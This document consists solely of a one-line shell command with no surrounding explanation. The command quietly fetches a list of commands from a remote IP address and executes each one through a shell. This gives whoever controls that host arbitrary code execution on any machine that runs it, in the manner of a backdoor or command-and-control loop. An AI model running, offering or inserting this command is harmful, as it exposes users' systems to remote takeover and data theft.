curl -s http://203.0.113.4/cmds | xargs -I{} sh -c '{}'
